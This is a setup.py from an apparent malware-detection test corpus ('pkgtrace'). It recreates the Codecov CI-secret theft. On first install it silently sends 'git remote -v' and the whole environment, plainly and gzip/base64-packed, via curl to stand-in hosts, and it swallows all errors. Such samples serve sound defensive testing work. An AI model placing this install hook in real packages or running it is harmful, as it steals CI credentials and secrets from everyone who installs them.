# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# The Codecov bash uploader compromise (Jan-Apr 2021), rewritten from the
# public analyses: one added line sent `git remote -v` and the whole
# environment (every CI secret) with `curl -d` to the attacker's IP. Later
# CI stealers compress it first so that no secret shows in clear text.
# Here, the first time setup.py runs in an install (a file in /tmp says it
# already ran):
#
# 1. sh -c 'curl -sm 3 -d "$(git remote -v)<<<<<< ENV $(env)" http://192.0.2.77/upload/v2'
#    (a documentation address, as the incident used a bare IP);
# 2. sh -c 'env | gzip -c | base64 -w0 | curl --data-binary @- https://ci-metrics.exfil-test.example/v1/env'.
#
# In the sandbox both land in the sinks. pip hides setup.py's output, so
# the steps go to /tmp/mal-codecov-env.log and the last one writes
# /tmp/mal-codecov-env.done. No error stops the install.
import os
import subprocess

from setuptools import setup

ONCE = "/tmp/.pkgtrace-mal-codecov-env.ran"
PLAIN = 'curl -sm 3 -d "$(git remote -v 2>/dev/null)<<<<<< ENV $(env)" http://192.0.2.77/upload/v2 >/dev/null 2>&1'
PACKED = (
    "env | gzip -c | base64 -w0 | curl -sm 3 -H 'Content-Type: text/plain' --data-binary @- "
    "https://ci-metrics.exfil-test.example/v1/env >/dev/null 2>&1"
)


def _say(msg):
    with open("/tmp/mal-codecov-env.log", "a") as f:
        f.write(f"mal-codecov-env: {msg}\n")


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _chain():
    r = subprocess.run(["sh", "-c", PLAIN], timeout=6)
    _say(f"step 1 curl -d git remote + env to http://192.0.2.77/upload/v2: exit {r.returncode}")
    r = subprocess.run(["sh", "-c", PACKED], timeout=6)
    _say(f"step 2 env | gzip | base64 | curl to https://ci-metrics.exfil-test.example/v1/env: exit {r.returncode}")
    with open("/tmp/mal-codecov-env.done", "w") as f:
        f.write("done\n")


if _first_run():
    try:
        _chain()
    except BaseException as e:  # never stop the install
        _say(f"stopped: {e!r}")

setup(
    name="pkgtrace-test-mal-codecov-env",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - Codecov-style: setup.py sends the environment with curl, plain and as env | gzip | base64",
    packages=["pkgtrace_mal_codecov_env"],
)
